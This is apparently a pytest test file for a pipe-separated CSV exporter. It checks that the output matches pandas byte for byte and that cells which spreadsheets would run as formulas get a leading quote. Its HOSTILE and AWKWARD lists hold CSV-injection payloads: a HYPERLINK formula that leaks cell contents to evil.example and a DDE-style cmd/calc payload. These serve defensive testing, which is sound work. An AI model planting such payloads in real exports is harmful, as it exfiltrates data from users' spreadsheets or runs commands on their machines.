"""The outbox's CSV renderer (``connectors.outbox.render_csv``): byte for byte what
``DataFrame.to_csv(sep="|", index=False, lineterminator="\\n", na_rep="")`` writes, for the
columns it renders itself (text, integers, booleans) and for those it leaves to pandas,
once text cells that a spreadsheet would run as a formula are neutralised (issue 15,
point 5: OWASP's rule, a ``'`` before a text cell that starts with ``=``, ``+``, ``-``,
``@``, TAB or CR; numbers are never touched).

Hypothesis runs derandomized and without its example database (nothing is written into the
working tree).
"""

from __future__ import annotations

import io
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from connectors import outbox as ob

AWKWARD = ["", " ", "a", "|", "||", '"', 'q"q', "\n", "l\nm", "\r", "c\rr", "\r\n", "\t",
           "\\", "\\N", "é", "ÑOÑO\nBARIS", "SITI | AMINAH", 'AGUS "GUS" W.', "\x00", "NaN",
           "None", "1e5", "-", "#", "'", "a,b", "\ufeff", '=HYPERLINK("http://x","y")',
           "@SUM(1+1)", "-2+3+cmd", "+62 21", "\tTAB", "\r=x", " =x", "a=b", "=a|b"]  # fmt: skip


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralised(frame: pd.DataFrame) -> pd.DataFrame:
    """The oracle of the formula rule, cell by cell in Python: a ``'`` before every text
    cell (a ``str`` in a text, object or category column) that starts like a formula."""

    def cell(v):
        return "'" + v if isinstance(v, str) and v.startswith(FORMULA_START) else v

    out = frame.copy()
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if isinstance(column.dtype, pd.CategoricalDtype):
            out.isetitem(i, column.cat.rename_categories([cell(c) for c in column.cat.categories]))
        elif isinstance(column.dtype, pd.StringDtype) or column.dtype == object:
            out.isetitem(i, pd.Series([cell(v) for v in column], index=column.index, dtype=column.dtype))
    return out


def pandas_csv(frame: pd.DataFrame) -> bytes:
    buffer = io.StringIO()
    neutralised(frame).to_csv(buffer, sep="|", index=False, lineterminator="\n", na_rep="")
    return buffer.getvalue().encode("utf-8")


def _registry_like(n: int = 40) -> pd.DataFrame:
    rng = np.random.default_rng(3)
    text = pd.Series(rng.choice(AWKWARD, n), dtype="str").where(rng.random(n) > 0.2)
    return pd.DataFrame(
        {
            "release_id": np.full(n, 7, dtype=np.int64),
            "nik": pd.Series([f"3275{i:012d}" for i in range(n)], dtype="str"),
            "kpj": pd.Series([f"{i:011d}" if i % 3 else None for i in range(n)], dtype="str"),
            "nama": text,
            "desil": pd.array([None if i % 5 == 0 else i % 10 + 1 for i in range(n)], dtype="Int8"),
            "priority_rank": pd.array([i if i % 2 else None for i in range(n)], dtype="Int64"),
            "monthly_contribution_idr": np.where(np.arange(n) % 4 == 0, 0, 16_800),
            "jkm_claim_alert": np.arange(n) % 7 == 0,
            "flag": pd.array([None if i % 3 == 0 else bool(i % 2) for i in range(n)], dtype="boolean"),
            "small": np.arange(n, dtype=np.int8) - 20,
            "unsigned": np.arange(n, dtype=np.uint64) * (2**60),
            "obj": pd.Series([None if i % 4 == 0 else AWKWARD[i % len(AWKWARD)] for i in range(n)], dtype=object),
            "string": pd.Series([None if i % 6 == 0 else AWKWARD[-i % len(AWKWARD)] for i in range(n)], dtype="string"),
        }
    )  # fmt: skip


CASES = {
    "registry-like": _registry_like(),
    "no rows": _registry_like().iloc[:0],
    "a slice (arrays with offsets)": _registry_like(200).iloc[37:151:3],
    "one text column (an empty record is quoted)": pd.DataFrame(
        {"s": pd.Series(AWKWARD + [None], dtype="str")}
    ),
    "one object column": pd.DataFrame({"s": pd.Series(AWKWARD + [None], dtype=object)}),
    "one integer column": pd.DataFrame({"i": pd.array([1, None, -3], dtype="Int64")}),
    "awkward headers": pd.DataFrame(
        [[1, "x", True, "|", 2, 3]], columns=["a|b", 'q"', "", 3, None, 1.5]
    ),
    "empty header, single column": pd.DataFrame({"": pd.Series(["", None], dtype="str")}),
    "duplicated column names": pd.DataFrame([[1, "a"]], columns=["x", "x"]),
    "no columns": pd.DataFrame(),
    "no columns, rows": pd.DataFrame(index=range(3)),
    "floats and dates (pandas renders them)": pd.DataFrame(
        {"f": [1.5, None], "d": pd.to_datetime(["2026-01-01", None]), "s": ["a|b", "c"]}
    ),
    "mixed objects (pandas renders them)": pd.DataFrame({"o": [1, "a", None]}),
    "categories (pandas renders them)": pd.DataFrame({"c": pd.Categorical(["a", None, "b|c"])}),
    "a non-default index is not written": pd.DataFrame(
        {"s": ["a", "b"]}, index=pd.Index([10, 20], name="idx")
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_render_csv_is_byte_identical_to_pandas(name):
    frame = CASES[name]
    assert ob.render_csv(frame) == pandas_csv(frame)


def test_fields_with_separator_quote_or_line_feed_are_quoted():
    text = ob.render_csv(pd.DataFrame({"a": ["x|y", 'q"q', "l\nm", "c\rr", "plain"], "b": 1}))
    assert text.decode() == 'a|b\n"x|y"|1\n"q""q"|1\n"l\nm"|1\nc\rr|1\nplain|1\n'


text_values = st.one_of(
    st.none(),
    st.sampled_from(AWKWARD),
    st.text(alphabet=st.sampled_from(list('ab |"\n\r\t\\é,;=+-@')), max_size=6),
)


@st.composite
def frames(draw):
    rows = draw(st.integers(min_value=0, max_value=12))
    kinds = draw(st.lists(st.sampled_from(["str", "object", "string", "Int64", "int64", "bool", "boolean"]), min_size=1, max_size=5))  # fmt: skip
    columns = {}
    for i, kind in enumerate(kinds):
        if kind in ("str", "object", "string"):
            values = draw(st.lists(text_values, min_size=rows, max_size=rows))
            columns[f"c{i}"] = pd.Series(values, dtype=kind)
        elif kind == "Int64":
            values = draw(st.lists(st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1)), min_size=rows, max_size=rows))  # fmt: skip
            columns[f"c{i}"] = pd.array(values, dtype="Int64")
        elif kind == "int64":
            values = draw(st.lists(st.integers(-(2**63), 2**63 - 1), min_size=rows, max_size=rows))
            columns[f"c{i}"] = np.array(values, dtype=np.int64)
        elif kind == "bool":
            columns[f"c{i}"] = np.array(draw(st.lists(st.booleans(), min_size=rows, max_size=rows)), dtype=bool)  # fmt: skip
        else:
            values = draw(st.lists(st.one_of(st.none(), st.booleans()), min_size=rows, max_size=rows))
            columns[f"c{i}"] = pd.array(values, dtype="boolean")
    return pd.DataFrame(columns, index=pd.RangeIndex(rows))


@settings(max_examples=150, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@given(frames())
def test_render_csv_matches_pandas_on_random_frames(frame):
    assert ob.render_csv(frame) == pandas_csv(frame)


def test_write_csv_stages_the_rendered_bytes_with_their_checksum(tmp_path):
    import hashlib

    frame = _registry_like()
    with ob.Outbox(tmp_path).staging("t") as staged:
        staged.write_csv("registry_202610_v1.csv", frame)
        staged.commit()
    data = (tmp_path / "registry_202610_v1.csv").read_bytes()
    assert data == pandas_csv(frame)
    assert ob.Outbox(tmp_path).verify("registry_202610_v1.csv") == hashlib.sha256(data).hexdigest()


def test_text_cells_that_start_like_a_formula_are_neutralised_and_numbers_are_not():
    frame = pd.DataFrame(
        {
            "nama": pd.Series(['=HYPERLINK("http://x","y")', "@SUM(1)", "-2+3+cmd", "+1", "\tx",
                               "\rx", " =x", "a=b", None, "=a|b"], dtype="str"),
            "n": np.array([-5, -1, 0, 1, 2, 3, 4, 5, 6, 7], dtype=np.int64),
            "m": pd.array([-5, None, 0, 1, 2, 3, 4, 5, 6, 7], dtype="Int64"),
        }
    )  # fmt: skip
    lines = ob.render_csv(frame).decode().split("\n")
    assert lines[1:] == [
        '"\'=HYPERLINK(""http://x"",""y"")"|-5|-5', "'@SUM(1)|-1|", "'-2+3+cmd|0|0", "'+1|1|1",
        "'\tx|2|2", "'\rx|3|3", " =x|4|4", "a=b|5|5", "|6|6", '"\'=a|b"|7|7', "",
    ]  # fmt: skip


def test_the_pandas_path_neutralises_text_cells_too():
    frame = pd.DataFrame({"f": [1.5, -2.0], "s": ["=1+1", "-x"], "o": [-3, "@y"],
                          "c": pd.Categorical(["+z", "ok"])})  # fmt: skip
    assert ob.render_csv(frame).decode().split("\n")[1:] == [
        "1.5|'=1+1|-3|'+z", "-2.0|'-x|'@y|ok", "",
    ]  # fmt: skip


#: (a CR inside a value is not among them: validation rejects or blanks control characters,
#: so none reaches the outbox; a CR would end the line for some readers, the pandas CSV
#: writer this renderer reproduces does not quote it)
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd",
           "+62 812", "\tTAB", "\rCR"]  # fmt: skip


def _cells(path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh, delimiter="|") for cell in row]


def test_every_outbox_csv_kind_is_neutralised(tmp_path):
    """The registry, the BPJS mutations and the kelurahan worklists, built as the flows
    build them, with names and addresses that are formulas: no cell of any file starts
    like a formula, and the names are there, guarded."""
    from domain.worklist import worklists
    from domain.release_files import mutasi_rows, registry_rows
    from tests.integration.db.conftest import sample_entries

    entries = sample_entries()
    entries["nama"] = HOSTILE
    entries["evidence"] = ["-" + e for e in entries["evidence"]]
    entries["alamat"] = pd.Series(["=1+1", "@x", "-y", "+z", "\tw", None], dtype="str")
    cases = pd.DataFrame(
        {
            "case_id": [f"RV-202610-{i}" for i in range(len(entries))],
            "nik": entries["nik"], "kpj": entries["kpj"],
            "kode_kelurahan": entries["kode_kelurahan"], "triggers": "NAME_CHANGED",
            "evidence": "=cmd", "status": "OPEN",
        }
    )  # fmt: skip
    with ob.Outbox(tmp_path).staging("t") as staged:
        files = [
            staged.write_csv("registry_202610_v1.csv", registry_rows(entries, 7)),
            staged.write_csv("mutasi_bpjstk_202610_v1.csv", mutasi_rows(entries, "2026-10")),
        ]
        for kel, frame in worklists(cases, entries, "2026-10", 1).items():
            files.append(staged.write_csv(f"verifikasi/{kel}/worklist_202610_v1.csv", frame))
        kinds = {Path(f).name.split("_")[0] for f in files}
        assert kinds == {"registry", "mutasi", "worklist"}
        for path in files:
            cells = _cells(path)
            assert not [c for c in cells if c.startswith(FORMULA_START)], path
        registry = _cells(files[0])
        assert all("'" + name in registry for name in HOSTILE[:-1])
        assert b"'\rCR" in Path(files[0]).read_bytes()
        assert "-18" not in registry  # (integers are never guarded: none is negative here)
        worklist_cells = [c for f in files[2:] for c in _cells(f)]
        assert any(c.startswith("'=1+1") for c in worklist_cells)  # the address
        assert "'-2+3+cmd" in worklist_cells  # a name
        staged.discard()


def test_the_other_outbox_csv_files_are_neutralised_too(tmp_path):
    """The decision changes of a new version (names), the open-data table and its data
    dictionary, and the finance office's list (a description is the operator's text), as
    publishing writes them: no cell starts like a formula."""
    from domain.history import DECISION_CHANGE_COLUMNS, DIFF_ENTRY_COLUMNS, decision_changes
    from domain.money import FINANCE_COLUMNS, finance_list
    from domain.open_data import data_dictionary, open_data_table
    from tests.integration.db.conftest import sample_entries

    entries = sample_entries()
    entries["nama"] = HOSTILE
    before = entries[list(DIFF_ENTRY_COLUMNS)].copy()
    before["decision"] = "WAITLIST"
    changes = decision_changes(before, entries)[list(DECISION_CHANGE_COLUMNS)]
    assert len(changes) and set(HOSTILE) & set(changes["nama"])
    money = pd.DataFrame({column: ["-1", "=2"] for column in FINANCE_COLUMNS})
    table = open_data_table(entries, "2026-10", 1, 5)
    with ob.Outbox(tmp_path).staging("t") as staged:
        files = [
            staged.write_csv("perubahan_keputusan_202610_v2.csv", changes),
            staged.write_csv("statistik_202610_v1.csv", table.frame),
            staged.write_csv("statistik_202610_v1_kamus.csv", data_dictionary(table)),
            staged.write_csv(
                "keuangan_202610_v1.csv", finance_list(money, {"=2": "=HYPERLINK(1)", "-1": "@x"})
            ),
        ]
        for path in files:
            cells = _cells(path)
            assert len(cells) > 1, path
            assert not [c for c in cells if c.startswith(FORMULA_START)], path
        assert "'-2+3+cmd" in _cells(files[0])  # a name, guarded
        assert "'=HYPERLINK(1)" in _cells(files[3])
        staged.discard()
